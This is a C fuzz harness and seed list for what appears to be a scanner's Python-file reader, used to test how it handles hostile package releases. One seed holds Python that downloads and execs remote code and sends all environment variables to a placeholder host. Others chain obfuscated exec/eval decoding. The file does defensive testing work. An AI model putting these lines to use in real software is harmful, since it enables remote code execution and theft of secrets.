/*
 * A Python member, OLD and NEW with a cut chosen by the first byte. The publisher of the release
 * chooses every byte.
 */
#include "reader_truths.h"
#include "tool_seeds.h"

#include "read/readers.h"

int LLVMFuzzerTestOneInput(const uint8_t *bytes, size_t n)
{
	reader_truths(&reader_python, n % 16 == 15 ? "site-packages/x.pth" : "pkg/x.py", bytes, n);
	return 0;
}

static void seed(void (*run)(const void *bytes, size_t n), const char *text)
{
	run(text, strlen(text));
}

/* The first byte is a character of the text: blanks and letters cut it at an eighth to a half. */
void fuzz_seeds(void (*run)(const void *bytes, size_t n))
{
	seed(run, "x = '\x85\x86\x87\x88\x89\x8a\x8b'\nprint(x)\n"); /* text by its name only */
	literal_seeds("", "read/test_py.c read/test_py_fold.c read/test_py_kinds.c read/test_pylex.c", run);
	call_seeds("py", run);
	seed(run, "import os as o, base64\nfrom urllib import request as r\nexec(r.urlopen('https://a.example/x').read())\n"
		  "r.urlopen(r.Request('https://b.example', data=str(dict(o.environ)).encode()))\n");
	seed(run, "class A(B, metaclass=C):\n    x = 1\n    def __init__(self, a, *b, c=2, **d):\n        self.a = [i for j in b if j for i in j]\n"
		  "    @property\n    async def p(self):\n        async with self.a as f, g(): yield await f\n        return {**d, 'k': lambda: (yield)}\n");
	seed(run, "exec(''.join(map(chr,[c^7 for c in b'\\x70\\150u'])) + '%s%%%c' % ('a',98) + '{0}{k}{}'.format(1,k=2)[::-1] + f'{a!r:>{w}}{{}}')\n");
	seed(run, "import base64,zlib,bz2,lzma,codecs\nx=base64.b85decode(base64.a85decode(base64.b32decode('MFRGG===')))\n"
		  "y=zlib.decompress(bytes.fromhex('789c4b040000620062'))\neval(codecs.decode('riny','rot13')+x.decode('utf-16'))\n");
	seed(run, "try:\n  pass\nexcept (A, B) as e:\n  raise C from e\nexcept* D:\n  global q; q = 1\nelse:\n  del q[0], q[1:2, ::3]\nfinally:\n  assert q, 'x'\n"
		  "match x:\n  case [1, *r] if r: print(r)\n  case _: ...\nwhile (n := n - 1) > 0 <= 5: continue\nelse: break\n");
	seed(run, "# -*- coding: utf-7 -*-\nprint >>f, 'a', `b`\nexec code in d\nif a: b\nelif c: d\nelse:\n\te\n \tf = r'\\' \n\"\"\"open\n");
	seed(run, "def f(n):\n  l = [n]\n  l.append(l); l.extend(l); l.insert(0, l.pop())\n  t = str.maketrans('ab', 'ba')\n  while l: l.reverse()\n"
		  "  return f(n - 1) * 3 + 'x' * n // 2 ** 9 % 4 if n else f\nexec(f(9))\n");
}
